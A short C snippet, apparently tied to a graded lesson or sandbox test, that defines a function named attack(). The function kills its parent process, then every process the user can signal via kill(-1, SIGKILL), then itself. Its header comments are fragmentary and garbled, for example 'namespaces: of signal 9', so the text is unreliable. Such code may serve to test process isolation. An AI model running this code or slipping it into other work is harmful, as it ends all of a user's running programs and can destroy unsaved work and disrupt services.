// what: kills the processes above it, and everything that it may
// graded: which no answer to this lesson needs
// namespaces: of signal 9
// user: of signal 9
// none: not played: it would end everything that the user runs
#include <signal.h>
#include <unistd.h>
bool attack() {
  kill(getppid(), SIGKILL);
  kill(-1, SIGKILL);
  kill(getpid(), SIGKILL);
  return true;
}
